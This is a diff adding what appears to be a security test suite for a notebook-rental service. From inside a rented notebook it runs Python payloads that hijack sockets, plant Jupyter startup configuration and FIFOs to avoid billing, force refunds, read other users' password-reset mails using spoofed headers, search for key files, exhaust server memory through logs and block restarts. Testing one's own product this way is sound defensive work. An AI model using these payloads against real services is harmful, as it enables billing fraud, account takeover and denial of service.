@@ -1,0 +1,310 @@
+import { randomBytes } from "node:crypto";
+import { chmodSync, readFileSync, rmSync } from "node:fs";
+import { createServer } from "node:net";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { setTimeout as sleep } from "node:timers/promises";
+import { create, must, orderAndPay, type Paid, signUp, until } from "../customer.ts";
+import { ask, openNotebook } from "../notebook.ts";
+import { startProduct } from "../product.ts";
+import { type Attack, act, end, type Rental, rent, rowOf, settledAs, type Target } from "./attack.ts";
+
+/** From a cell of a notebook that its owner rents, on whatever runs environments. */
+export const inside: readonly Attack[] = [
+  {
+    name: "1 a socket of the host, in the place of the notebook's own",
+    async run(target) {
+      const rental = await rent(target);
+      const path = join(tmpdir(), `host-only-${randomBytes(4).toString("hex")}.sock`);
+      const heard: string[] = [];
+      const host = createServer((socket) =>
+        socket.on("data", (chunk) => heard.push(`heard ${chunk}`)).on("error", () => {}),
+      );
+      await new Promise<void>((resolve) => host.listen(path, resolve));
+      chmodSync(path, 0o777);
+      try {
+        const notebook = await openNotebook(rental.door);
+        const swapped = await notebook.run(swap(path));
+        // More than the connections that are open already: the gateway needs new ones.
+        const tries = 40;
+        const asked = Array.from({ length: tries }, () => ask(rental.door, "/api").catch(() => undefined));
+        await Promise.all([sleep(6000), ...asked]);
+        notebook.close();
+        return { tries: tries + swapped.split("\n").length, successes: heard.slice(0, 1) };
+      } finally {
+        host.close();
+        rmSync(path, { force: true });
+        await end(target, rental);
+      }
+    },
+  },
+  {
+    name: "3 computing before the clock starts",
+    async run(target) {
+      const rental = await rent(target);
+      const successes: string[] = [];
+      const ways = { "a configuration file": configuration, "a pipe in the place of pyvenv.cfg": pipe };
+      for (const [way, code] of Object.entries(ways)) {
+        const notebook = await openNotebook(rental.door);
+        await notebook.run(code);
+        notebook.close();
+        const free = await freeSeconds(target, rental);
+        if (free > mostFreeSeconds) successes.push(`${way}: ${Math.round(free)} s unbilled`);
+        if ((await rowOf(target, rental)).status !== "active") break;
+      }
+      await end(target, rental);
+      return { tries: Object.keys(ways).length, successes };
+    },
+  },
+  {
+    name: "4 unused time paid back at will",
+    async run(target) {
+      const successes: string[] = [];
+      const customer = await signUp(target.product.url);
+      const tries = 2;
+      for (let n = 0; n < tries; n++) {
+        const rental = await rent(target, { customer, duration: 6 });
+        const notebook = await openNotebook(rental.door);
+        // JupyterLab is the kernel's parent: it stays there and answers nobody.
+        await notebook.run("import os, signal; os.kill(os.getppid(), signal.SIGSTOP)").catch(() => "");
+        notebook.close();
+        await silentForTenMinutes(target, rental);
+        const { rows } = await paidBack(target, rental);
+        successes.push(...rows);
+        await end(target, rental);
+      }
+      return { tries, successes };
+    },
+  },
+  {
+    name: "5 credits for launches that their owner broke",
+    async run(target) {
+      const { product, db } = target;
+      const customer = await signUp(product.url);
+      const tries = 2;
+      for (let n = 0; n < tries; n++) {
+        const first = await rent(target, { customer, subdomain: `broken-${customer.userId.slice(0, 6)}-${n}` });
+        const notebook = await openNotebook(first.door);
+        await notebook.run(configuration + pipe);
+        notebook.close();
+        await end(target, first);
+        await settledAs(target, first, "terminated");
+        const paid = await orderAndPay(product.url, customer, { subdomain: first.subdomain, gpuCount: 1 });
+        const { body } = await create(product.url, customer, paid);
+        // Delivered after all: nothing was gained.
+        if (body.status === "active")
+          await end(target, { ...first, id: body.environment_id ?? (await newestOf(target, first)) });
+        else
+          await until("the launch to be given up", async () => (await statusOf(target, paid)) === "refunded", 120_000);
+      }
+      const credits = await db.selectFrom("time_credits").selectAll().where("user_id", "=", customer.userId).execute();
+      return { tries, successes: credits.map(() => "a credit was given") };
+    },
+  },
+  {
+    name: "8 mails of others, read from a notebook",
+    async run(target) {
+      const { product } = target;
+      const victim = await signUp(product.url);
+      await must(product.url, "POST", "/auth/reset-password", { body: { email: victim.email } });
+      const rental = await rent(target);
+      const notebook = await openNotebook(rental.door);
+      const found = await notebook.run(outbox(product.port, product.dataDir));
+      notebook.close();
+      await end(target, rental);
+      const lines = found.trim().split("\n");
+      return { tries: lines.length, successes: lines.filter((line) => line.includes(victim.email)) };
+    },
+  },
+  {
+    name: "9 a log that fills the server's memory",
+    async run(target) {
+      const { product } = target;
+      const rental = await rent(target);
+      const notebook = await openNotebook(rental.door);
+      const stop = new AbortController();
+      const reading = fetch(`${product.url.replace("localhost", "127.0.0.1")}/environments/${rental.id}/logs`, {
+        headers: { authorization: `Bearer ${rental.customer.idToken}` },
+        signal: stop.signal,
+      }).then(async (answer) => {
+        for await (const _ of answer.body ?? []);
+      });
+      const ended = reading.catch(() => undefined);
+      await sleep(1000);
+      const before = residentMb(product.pid);
+      await notebook.run(
+        "import os\nfor n in (1, 2):\n  try:\n    with open('/proc/%d/fd/%d' % (os.getppid(), n), 'r+b') as log: log.truncate(300 << 20)\n  except OSError: pass",
+      );
+      let most = before;
+      for (let n = 0; n < 20; n++) {
+        await sleep(250);
+        most = Math.max(most, residentMb(product.pid));
+      }
+      stop.abort();
+      await ended;
+      notebook.close();
+      await end(target, rental);
+      const grown = Math.round(most - before);
+      return { tries: 2, successes: grown > 150 ? [`the server grew by ${grown} MB`] : [] };
+    },
+  },
+  {
+    name: "16 a start that a notebook keeps from happening",
+    async run(target) {
+      const { dataDir, port } = target.product;
+      const rental = await rent(target);
+      const notebook = await openNotebook(rental.door);
+      const seen = await notebook.run(squat);
+      notebook.close();
+      await target.product.kill();
+      await sleep(1000);
+      const again = () => startProduct({ dataDir, port, env: target.env });
+      const refusal = await again().then(
+        (product) => {
+          target.product = product;
+          return undefined;
+        },
+        (error: Error) => error.message.split("\n")[1] ?? error.message,
+      );
+      if (refusal === undefined) {
+        await settledAs(target, rental, "active");
+        await end(target, rental);
+      }
+      return { tries: seen.trim().split("\n").length, successes: refusal === undefined ? [] : [refusal] };
+    },
+  },
+];
+
+/** What is given for nothing at a start, in seconds, with what a slow machine adds (G105). */
+const mostFreeSeconds = 75;
+
+/** Renames whatever socket can be reached and puts a link to another in its place. */
+const swap = (path: string) => `
+import os, stat
+def sockets(folder):
+  for root, folders, files in os.walk(folder):
+    for each in files:
+      path = os.path.join(root, each)
+      try:
+        if stat.S_ISSOCK(os.lstat(path).st_mode): yield path
+      except OSError: pass
+for path in [each for folder in ('/run', '/tmp', os.path.expanduser('~')) for each in sockets(folder)]:
+  try:
+    os.rename(path, path + '.real'); os.symlink('${path}', path); print('swapped', path)
+  except OSError as problem: print('kept', path, problem)
+for folder in ('/run/jupyter', '/run'):
+  try:
+    os.rename(folder, folder + '.real'); os.symlink('${tmpdir()}', folder); print('swapped', folder)
+  except OSError as problem: print('kept', folder, problem)
+`;
+
+/** Runs before JupyterLab answers, if anything of it is read then, and leaves a sign. */
+const configuration = `
+import os
+for folder in ('.jupyter', '.local/python/etc/jupyter', '.local/etc/jupyter', '.ipython/profile_default/startup'):
+  folder = os.path.expanduser('~/' + folder); os.makedirs(folder, exist_ok=True)
+  for name in ('jupyter_server_config.py', 'jupyter_lab_config.py', 'jupyter_config.py'):
+    open(os.path.join(folder, name), 'w').write('import time\\ntime.sleep(90)\\n')
+`;
+
+const pipe = `
+import os
+for path in ('~/.local/python/pyvenv.cfg', '~/.jupyter/lab', '~/.local/python/share/jupyter'):
+  path = os.path.expanduser(path)
+  try:
+    if os.path.isdir(path): os.rename(path, path + '.kept')
+    elif os.path.lexists(path): os.unlink(path)
+    os.makedirs(os.path.dirname(path), exist_ok=True); os.mkfifo(path)
+  except OSError as problem: print(problem)
+`;
+
+/** Stops and starts; how much longer it ran than its time went down, for at most two minutes. */
+async function freeSeconds(target: Target, rental: Rental): Promise<number> {
+  await act(target, rental, "stop");
+  await settledAs(target, rental, "stopped");
+  const before = (await rowOf(target, rental)).banked_seconds ?? 0;
+  const began = Date.now();
+  await act(target, rental, "restart");
+  const answered = () => rowOf(target, rental).then(({ status }) => status === "active");
+  await until("an answer", answered, 120_000).catch(() => undefined);
+  const ran = (Date.now() - began) / 1000;
+  const row = await rowOf(target, rental);
+  const left = row.expires_at ? (row.expires_at.getTime() - Date.now()) / 1000 : (row.banked_seconds ?? 0);
+  return ran - (before - left);
+}
+
+/** Waits until the silence is noticed, then lets its ten minutes be over. */
+async function silentForTenMinutes(target: Target, rental: Rental): Promise<void> {
+  await until("the silence to be noticed", async () => (await rowOf(target, rental)).down_since !== null, 60_000).catch(
+    () => undefined,
+  );
+  await target.db
+    .updateTable("environments")
+    .set({ give_up_at: new Date(0), down_since: new Date(Date.now() - 660_000), due_at: new Date(0) })
+    .where("id", "=", rental.id)
+    .where("down_since", "is not", null)
+    .execute();
+  const isOver = async () => ["stopped", "terminated"].includes((await rowOf(target, rental)).status);
+  await until("an end of the silence", isOver, 60_000).catch(() => undefined);
+}
+
+async function newestOf({ db }: Target, { subdomain }: Rental): Promise<string> {
+  const rows = db.selectFrom("environments").select("id").where("subdomain", "=", subdomain);
+  return (await rows.orderBy("requested_at", "desc").executeTakeFirstOrThrow()).id;
+}
+
+async function statusOf({ db }: Target, { payment_data: { razorpay_order_id } }: Paid): Promise<string | undefined> {
+  const row = db.selectFrom("orders").select("status").where("gateway_order_id", "=", razorpay_order_id);
+  return (await row.executeTakeFirst())?.status;
+}
+
+async function paidBack({ db }: Target, { orderId }: Rental): Promise<{ rows: readonly string[] }> {
+  const row = await db
+    .selectFrom("payments")
+    .innerJoin("orders", "orders.id", "payments.order_id")
+    .select(["payments.amount_minor", "payments.refund_minor"])
+    .where("orders.gateway_order_id", "=", orderId)
+    .executeTakeFirstOrThrow();
+  return { rows: row.refund_minor > 0 ? [`${row.refund_minor} of ${row.amount_minor} cents went back`] : [] };
+}
+
+/** Each address and header by which this machine may be taken for the operator; and the key, where it may lie. */
+const outbox = (port: number, dataDir: string) => `
+import os, urllib.request
+hosts = ['127.0.0.1']
+try:
+  for line in open('/proc/net/route'):
+    words = line.split()
+    if words[1] == '00000000': hosts.append('.'.join(str(int(words[2][n:n + 2], 16)) for n in (6, 4, 2, 0)))
+except OSError: pass
+for host in hosts:
+  for name in ('localhost:${port}', '127.0.0.1:${port}', '[::1]:${port}'):
+    for more in ({}, {'X-Forwarded-For': '127.0.0.1'}, {'Cookie': 'outbox=1; key=1'}):
+      for path in ('/outbox', '/outbox?key=', '/embedded-gateway/v1/test/mails'):
+        try:
+          request = urllib.request.Request('http://%s:${port}%s' % (host, path), headers={'Host': name, 'Accept': 'application/json', **more})
+          print(urllib.request.urlopen(request, timeout=3).read().decode()[:20000].replace('\\n', ' '))
+        except Exception as problem: print(host, path, problem)
+for root, folders, files in os.walk('${dataDir}'):
+  for each in files:
+    if 'key' in each or 'secret' in each or 'password' in each: print('readable', os.path.join(root, each))
+`;
+
+/** Takes every abstract name that the notebook can see, as soon as it is free, for half a minute. */
+const squat = `
+import socket, threading, time
+names = sorted({line.split()[-1] for line in open('/proc/net/unix') if line.rstrip().split()[-1].startswith('@berth')})
+held = []
+def take(name):
+  end = time.time() + 30
+  while time.time() < end:
+    try:
+      taken = socket.socket(socket.AF_UNIX); taken.bind(chr(0) + name[1:]); taken.listen(); held.append(taken); return
+    except OSError: time.sleep(0.002)
+for name in names: threading.Thread(target=take, args=(name,), daemon=True).start()
+print('\\n'.join(names) or 'nothing to take')
+`;
+
+function residentMb(pid: number): number {
+  return Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${pid}/status`, "utf8"))?.[1]) / 1024;
+}
